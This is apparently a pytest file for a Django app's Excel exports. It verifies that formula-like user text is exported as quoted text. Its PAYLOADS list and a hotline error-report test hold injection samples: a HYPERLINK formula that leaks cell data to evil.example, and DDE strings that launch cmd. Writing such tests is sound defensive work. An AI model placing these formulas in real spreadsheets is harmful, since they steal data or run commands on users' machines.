"""Spreadsheet formula injection (issue 12, item 2): whatever a person typed that begins like a
formula or a command (= + - @, or a tab or carriage return) comes out of every export as text,
read back from the real .xlsx file."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from zhenjie.integrations import hotline_import
from zhenjie.testing import make_event
from zhenjie.workbench import excel

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("xl/worksheets/sheet1.xml").decode()


def test_a_citizens_report_beginning_like_a_formula_is_text_in_the_dispatchers_export(client, world):
    for text in PAYLOADS:
        make_event(world, description=text)
    client.force_login(world.dispatcher_a)

    response = client.get(reverse("events:home"), {"format": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    column = [cell.value for cell in sheet[1]].index("描述") + 1
    cells = [sheet.cell(row=row, column=column) for row in range(2, sheet.max_row + 1)]
    # (intake trims a description's surrounding white space; the tab and CR cases are below)
    assert sorted(cell.value for cell in cells) == sorted(text.strip() for text in PAYLOADS)
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value  # text, shown with Excel's apostrophe
    assert "<f>" not in sheet_xml(response.content)  # no formula anywhere in the file


def test_rows_written_straight_onto_a_sheet_are_made_text_on_the_way_out():
    book = Workbook()
    book.active.append(["=1+1", "@A1", 5, -5, "普通文字", "\t=1+1", "\r=1+1"])
    book.create_sheet("说明").append(["+A1"])

    read = load_workbook(io.BytesIO(excel.xlsx_bytes(book)))

    first = read.active
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in first[1]] == ["=1+1", "@A1", 5, -5, "普通文字", "\t=1+1", "\n=1+1"]
    assert [c.data_type for c in first[1]] == ["s", "s", "n", "n", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in first[1]] == [True, True, False, False, False, True, True]  # numbers stay numbers
    assert read["说明"]["A1"].value == "+A1" and read["说明"]["A1"].data_type == "s"


def test_the_hotline_error_report_quotes_the_uploaded_cell_as_text():
    error = hotline_import.RowError(row=2, column="诉求内容", value='=HYPERLINK("http://evil.example")', reason="不能为空")

    sheet = load_workbook(io.BytesIO(hotline_import.error_report([error]))).active

    value = next(cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == error.value)
    assert value.data_type == "s" and value.quotePrefix


def test_no_workbook_leaves_the_server_except_through_excel_xlsx_bytes():
    """Every export goes through the one function that makes formula-like text safe: no other
    module saves a workbook itself."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == root / "workbench" / "excel.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" in text or "excel" in text:
            if re.search(r"\b\w*(book|wb)\w*\.save\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
